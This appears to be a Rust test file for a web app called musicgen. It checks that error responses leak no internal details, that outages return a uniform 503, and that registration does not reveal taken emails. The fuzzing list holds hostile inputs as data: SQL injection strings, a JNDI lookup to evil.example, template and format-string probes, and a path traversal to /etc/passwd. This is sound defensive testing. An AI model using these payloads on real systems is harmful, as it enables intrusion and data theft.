//! What an error tells a stranger: its code and the request's id, and nothing of what is inside.

use super::walk::{self, Ids};
use http::Method;
use musicgen_security::authorization::Access;
use musicgen_testkit::{Answer, TestApp};
use serde_json::{Value, json};

const INSIDE: [&str; 24] = [
    "sql",
    "sqlite",
    "select ",
    "insert ",
    "constraint",
    "panick",
    "thread",
    "stack",
    "backtrace",
    ".rs:",
    "src/",
    "crates/",
    "cargo",
    "rust",
    "axum",
    "hyper",
    "tokio",
    "serde",
    "argon",
    "/tmp/",
    ".db",
    "musicgen.db",
    "0x",
    "os error",
];

#[track_caller]
fn tells_nothing(answer: &Answer, sent: &str, what: &str) {
    if answer.status.is_success() {
        return;
    }
    let body = answer.json();
    for name in body.as_object().unwrap().keys() {
        let known = [
            "type",
            "title",
            "status",
            "detail",
            "instance",
            "code",
            "request_id",
            "errors",
        ];
        assert!(known.contains(&name.as_str()), "{what}: {name}");
    }
    let text = answer.text().to_lowercase();
    for word in INSIDE {
        let echoed = sent.to_lowercase().contains(word);
        assert!(echoed || !text.contains(word), "{what}: {word} in {text}");
    }
    assert!(
        answer.body.len() < 16 * 1024,
        "{what}: {} bytes",
        answer.body.len()
    );
}

/// B122: quotes, long texts, wrong types and unknown words in every field of every body: 4xx, and a
/// word about the field alone.
#[tokio::test]
async fn odd_values_in_every_field_of_every_body() {
    let app = TestApp::in_production().await;
    app.user("clara").await;
    app.make_admin("clara").await;
    let browser = app.browser();
    browser.sign_in("clara").await;
    let long = "x".repeat(64 * 1024);
    let odd = [
        json!("' OR '1'='1"),
        json!("\"; DROP TABLE accounts; --"),
        json!("${jndi:ldap://evil.example}{{7*7}}%s%n"),
        json!("../../../../etc/passwd"),
        json!("\u{0}\u{1b}[31m"),
        json!("\u{202e}\u{feff}"),
        json!(long),
        json!(-1),
        json!(1e308),
        json!(u64::MAX),
        json!(true),
        Value::Null,
        json!([]),
        json!([[["x"]]]),
        json!({}),
        json!({"a": {"b": 1}}),
    ];
    for route in walk::unsafe_routes() {
        // These would sign the walker out or in.
        let Some(known) = walk::body(&route).filter(|body| body != &json!({})) else {
            continue;
        };
        for field in known.as_object().unwrap().keys() {
            for value in &odd {
                let mut body = known.clone();
                body[field] = value.clone();
                let body = body.to_string();
                let path = Ids::absent().path(&route);
                let tab = if route.access == Access::Public {
                    app.browser()
                } else {
                    browser.fork()
                };
                let answer = tab
                    .send(walk::method(&route), &path, Some(body.clone()))
                    .await;
                let (status, what) = (answer.status.as_u16(), format!("{route:?} {field}"));
                assert!(status < 500, "{what}: {status} {}", answer.text());
                tells_nothing(&answer, &body, &what);
            }
        }
        for text in [
            "",
            "{",
            "[",
            "nul",
            "{\"a\":",
            "\u{feff}{}",
            "{}{}",
            "{\"a\":1,\"a\":2}",
            "1e999",
        ] {
            let path = Ids::absent().path(&route);
            let answer = browser
                .fork()
                .send(walk::method(&route), &path, Some(text.to_owned()))
                .await;
            let status = answer.status.as_u16();
            assert!((400..500).contains(&status), "{route:?} {text}: {status}");
            tells_nothing(&answer, text, &format!("{route:?} {text}"));
        }
    }
}

/// B122: while the database is away every route says the same, with a request's id and nothing else
/// of its own.
#[tokio::test]
async fn an_outage_reads_the_same_everywhere() {
    let app = TestApp::in_production().await;
    app.user("clara").await;
    app.make_admin("clara").await;
    let browser = app.browser();
    browser.sign_in("clara").await;
    app.close_database().await;
    let mut bodies = std::collections::BTreeSet::new();
    for route in musicgen::routes::table() {
        let body = walk::body(&route).map(|body| body.to_string());
        let path = Ids::absent().path(&route);
        let tab = browser.fork();
        let answer = tab.send(walk::method(&route), &path, body).await;
        if answer.status.is_server_error() {
            assert_eq!(answer.status, 503, "{route:?}: {}", answer.text());
            tells_nothing(&answer, "", &format!("{route:?}"));
            assert!(!answer.header("retry-after").is_empty(), "{route:?}");
            assert!(answer.set_cookies().is_empty(), "{route:?}");
            let mut body = answer.json();
            body["request_id"] = json!("");
            body["instance"] = json!("");
            bodies.insert(body.to_string());
        }
    }
    assert_eq!(bodies.len(), 1, "{bodies:#?}");
}

/// B122: an address that is taken is told by no status, no body and no header.
#[tokio::test]
async fn a_taken_address_is_no_conflict() {
    let app = TestApp::in_production().await;
    app.user("clara").await;
    let register = async |name: &str| {
        let email = format!("{name}@example.com");
        let body = json!({"email": email, "username": "x", "password": "a password of seventeen"});
        app.browser()
            .send(Method::POST, "/api/auth/register", Some(body.to_string()))
            .await
    };
    let (taken, free) = (register("clara").await, register("carla").await);
    assert_eq!(taken.status, free.status);
    assert_eq!(taken.text().replace("clara", "carla"), free.text());
    let names = |answer: &Answer| {
        answer
            .headers
            .keys()
            .map(ToString::to_string)
            .collect::<Vec<_>>()
    };
    assert_eq!(names(&taken), names(&free));
}
